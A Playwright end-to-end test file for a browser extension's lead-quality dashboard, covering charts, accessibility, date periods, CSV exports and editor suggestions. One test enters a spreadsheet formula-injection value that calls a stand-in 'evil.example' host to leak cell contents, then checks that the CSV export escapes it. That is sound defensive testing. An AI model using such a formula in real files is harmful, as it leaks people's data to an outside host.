import AxeBuilder from '@axe-core/playwright';
import { expect, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { test } from './extension';

// The dashboard over the demo workspace, in the built extension: every chart drawn with its
// table, no errors, no serious accessibility problems in light and dark, the period changing
// the numbers, CSV exports that a spreadsheet cannot run, and a suggestion carried into the
// definition editor's draft.

/** Console errors and uncaught exceptions of a page, from now on. */
function collectErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  page.on('pageerror', (e) => errors.push(String(e)));
  return errors;
}

async function openDashboard(open: (path: string) => Promise<Page>) {
  const page = await open('dashboard.html');
  await expect(page).toHaveTitle('Tandem dashboard');
  await expect(page.getByRole('heading', { level: 1, name: 'Tandem dashboard' })).toBeVisible();
  await expect(page.getByTestId('summary-captured')).toBeVisible();
  return page;
}

/** Serious and critical axe findings, as readable lines. */
async function seriousViolations(page: Page): Promise<string[]> {
  const results = await new AxeBuilder({ page }).analyze();
  return results.violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map((v) => `${v.impact} ${v.id}: ${v.help} (${v.nodes.map((n) => n.target.join(' ')).join(', ')})`);
}

/** How many pixels of a canvas have been painted. */
const paintedPixels = (page: Page, index: number) =>
  page.locator('canvas').nth(index).evaluate((canvas: HTMLCanvasElement) => {
    const data = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height).data;
    let painted = 0;
    for (let i = 3; i < data.length; i += 4) if (data[i]! > 0) painted++;
    return painted;
  });

const addDays = (day: string, days: number) => new Date(Date.parse(`${day}T00:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);

test('every chart is drawn with a table of the same numbers, without errors or serious axe findings, light and dark', async ({ extension }) => {
  const page = await extension.context.newPage();
  const errors = collectErrors(page);
  await page.goto(`chrome-extension://${extension.extensionId}/dashboard.html`);
  await openDashboard(async () => page);

  // The keyboard starts at the period chooser, with a visible focus.
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('From', { exact: true })).toBeFocused();
  expect(await page.getByLabel('From', { exact: true }).evaluate((el) => getComputedStyle(el).outlineStyle)).toBe('solid');

  const headings = await page.getByRole('heading', { level: 2 }).allTextContents();
  expect(headings).toEqual(['Goals', 'Lead quality by campaign', 'Hand-off', 'Timing', 'Suggestions for the next definition version', 'Export']);
  for (const name of headings) await expect(page.getByRole('region', { name })).toBeVisible();
  await expect(page.getByTestId('time-zone')).toContainText(await page.evaluate(() => Intl.DateTimeFormat().resolvedOptions().timeZone));

  // Goals of each team, with their status in words.
  const goals = page.getByRole('region', { name: 'Goals' });
  for (const team of ['Marketing', 'Sales', 'Joint']) await expect(goals.getByRole('heading', { name: team })).toBeVisible();
  // 14 of the demo's leads fall in a period (30 days back, 30 ahead) about half gone: on track.
  const captured = goals.getByTestId('goal').filter({ hasText: /^Leads captured from campaigns/ });
  await expect(captured).toContainText(/^Leads captured from campaigns\s*On track\s*14 of 20 · 70 % of the way/);
  await expect(goals.getByTestId('goal').filter({ hasText: /^Joint pipeline reviews held/ })).toContainText('Can’t be computed');
  await expect(page.getByTestId('rejection-reasons')).toContainText('Too small: 4');

  // Quality, hand-off and one timeline per product with something in the period.
  const figures = page.locator('figure.dash-figure');
  await expect(page.getByTestId('chart-quality')).toHaveCount(1);
  await expect(page.getByTestId('chart-handoff')).toHaveCount(1);
  await expect(page.getByTestId('chart-timing')).toHaveCount(3);
  await expect(page.getByRole('list', { name: 'Gaps for Pipeline Analytics' })).toContainText('Campaign without a sales play');
  const count = await figures.count();
  expect(count).toBe(5);
  for (let i = 0; i < count; i++) {
    const figure = figures.nth(i);
    const canvas = figure.locator('canvas');
    await expect(canvas).toHaveAttribute('role', 'img');
    expect((await canvas.getAttribute('aria-label'))!.length).toBeGreaterThan(20);
    const box = (await canvas.boundingBox())!;
    expect(box.width).toBeGreaterThan(100);
    expect(box.height).toBeGreaterThan(50);
    expect(await paintedPixels(page, i)).toBeGreaterThan(500);
    expect(await figure.locator('table tbody tr').count()).toBeGreaterThan(0);
    await expect(figure.locator('table caption')).not.toBeEmpty();
    // Show the table, so that axe checks it too.
    await figure.getByRole('button', { name: 'Show table' }).click();
    await expect(figure.getByRole('table')).toBeVisible();
    await expect(figure.getByRole('button', { name: 'Hide table' })).toHaveAttribute('aria-expanded', 'true');
  }
  await expect(page.getByTestId('chart-quality').getByRole('table')).toContainText('Revenue Ops webinar series');

  expect(await seriousViolations(page)).toEqual([]);

  // Dark: the charts are drawn again in the dark theme's colours.
  const lightPixel = await page.locator('canvas').first().evaluate((c: HTMLCanvasElement) => c.toDataURL());
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(() => page.locator('canvas').first().evaluate((c: HTMLCanvasElement) => c.toDataURL())).not.toBe(lightPixel);
  expect(await seriousViolations(page)).toEqual([]);

  expect(errors).toEqual([]);
});

test('the period changes the numbers, live updates arrive, and the CSV exports escape what a spreadsheet would run', async ({ extension }) => {
  const page = await extension.context.newPage();
  const errors = collectErrors(page);
  await page.goto(`chrome-extension://${extension.extensionId}/dashboard.html`);
  await openDashboard(async () => page);

  const from = page.getByLabel('From', { exact: true });
  const to = page.getByLabel('To', { exact: true });
  const today = await to.inputValue();
  await expect(from).toHaveValue(addDays(today, -29));
  await expect(page.getByRole('button', { name: 'Last 30 days' })).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByTestId('summary-captured')).toHaveText('14');
  await expect(page.getByTestId('summary-rejected')).toHaveText('8');

  // A rep rejects a lead in the side panel with a note that is a spreadsheet formula.
  const panel = await extension.openPage('sidepanel.html#feedback');
  await panel.getByLabel('Reject').check();
  await panel.getByLabel('Bad data').check();
  const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")';
  await panel.getByLabel('Note for Marketing (optional)').fill(formula);
  await panel.getByRole('button', { name: 'Send feedback' }).click();
  await expect(panel.getByRole('status')).toHaveText('Feedback saved.');
  await panel.close();
  // The open dashboard counts it without a reload.
  await expect(page.getByTestId('summary-rejected')).toHaveText('9');

  // The last ten days hold fewer leads; a period long ago holds none.
  await from.fill(addDays(today, -10));
  await expect(page.getByTestId('summary-captured')).toHaveText('9');
  await expect(page.getByRole('button', { name: 'Last 30 days' })).toHaveAttribute('aria-pressed', 'false');
  await from.fill(addDays(today, -400));
  await to.fill(addDays(today, -300));
  await expect(page.getByTestId('summary-captured')).toHaveText('0');
  await expect(page.getByRole('region', { name: 'Lead quality by campaign' })).toContainText('No feedback in this period.');
  await expect(page.getByRole('region', { name: 'Hand-off' })).toContainText('No leads captured in this period.');
  // A period that ends before it starts is refused in words; the numbers stay.
  await from.fill(addDays(today, -200));
  await expect(page.getByRole('alert')).toHaveText('The period ends before it starts.');
  await expect(page.getByTestId('summary-captured')).toHaveText('0');
  await page.getByRole('button', { name: 'This quarter' }).click();
  await expect(page.getByRole('button', { name: 'This quarter' })).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByRole('alert')).toHaveText('');
  await page.getByRole('button', { name: 'Last 30 days' }).click();
  await expect(page.getByTestId('summary-captured')).toHaveText('14');

  // Feedback of the period: one row per feedback, its replies in one column, formulas escaped.
  const [feedbackFile] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export feedback (CSV)' }).click()]);
  expect(feedbackFile.suggestedFilename()).toBe(`tandem-feedback-${addDays(today, -29)}-to-${today}.csv`);
  const feedback = readFileSync((await feedbackFile.path())!, 'utf8');
  expect(feedback.startsWith('\uFEFF')).toBe(true);
  const lines = feedback.slice(1).split('\r\n');
  // Every text field quoted, so a spreadsheet that splits on ; (many European locales) keeps the cells.
  expect(lines[0]).toMatch(/^"Given \(.+\)","Verdict","Reasons","Note","Author","Campaign","Contact","Contact email or page","Lead","Replies","Reply thread","Feedback id"$/);
  expect(feedback).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Details"")"`);
  expect(feedback).not.toMatch(/(^|,)"?=HYPERLINK/m);
  expect(feedback).toMatch(/Priya Shah \(\d{4}-\d\d-\d\d \d\d:\d\d\): Thanks, that helps/);
  expect(feedback).toContain('Too small; No budget');
  await expect(page.getByRole('region', { name: 'Export' }).getByRole('status')).toContainText('14 feedback entries');

  const [leadsFile] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export leads (CSV)' }).click()]);
  expect(leadsFile.suggestedFilename()).toBe(`tandem-leads-${addDays(today, -29)}-to-${today}.csv`);
  const leads = readFileSync((await leadsFile.path())!, 'utf8');
  expect(leads.slice(1).split('\r\n').filter((l) => l !== '')).toHaveLength(1 + 14);
  expect(leads).toContain('Tomás Herrera');

  expect(errors).toEqual([]);
});

test('“Open in the editor” puts the suggested criterion into the definition draft', async ({ extension }) => {
  const page = await openDashboard((path) => extension.openPage(path));
  const suggestion = page.getByTestId('suggestion').filter({ hasText: 'Consider employees ≥ 50' });
  await expect(suggestion).toContainText('had fewer than 50 employees');

  const [options] = await Promise.all([extension.context.waitForEvent('page'), suggestion.getByRole('button', { name: 'Open in the editor' }).click()]);
  await expect(page.getByRole('region', { name: /Suggestions/ }).getByRole('status')).toHaveText(
    'Added “At least 50 employees” to your draft of version 2. The editor opened in a new tab.',
  );
  await options.waitForLoadState();
  expect(new URL(options.url()).pathname + new URL(options.url()).hash).toBe('/options.html#definition');
  const row = options.getByRole('group', { name: 'At least 50 employees' });
  await expect(row).toBeVisible();
  await expect(row.getByLabel('Operator')).toHaveValue('atLeast');
  await expect(row.getByLabel('Value')).toHaveValue('50');
  await expect(options.getByLabel('Change note')).toHaveValue(/^Consider employees ≥ 50: /);
  // The published criteria are still there: the draft started from version 1.
  await expect(options.getByRole('group', { name: 'Company of 50 to 5,000 people' })).toBeVisible();
  await expect(options.getByRole('button', { name: 'Publish version 2' })).toBeVisible();

  // Asking again does not add it twice.
  await suggestion.getByRole('button', { name: 'Open in the editor' }).click();
  await expect(page.getByRole('region', { name: /Suggestions/ }).getByRole('status')).toHaveText(
    'Your draft of version 2 already has “At least 50 employees”. The editor opened in a new tab.',
  );
});
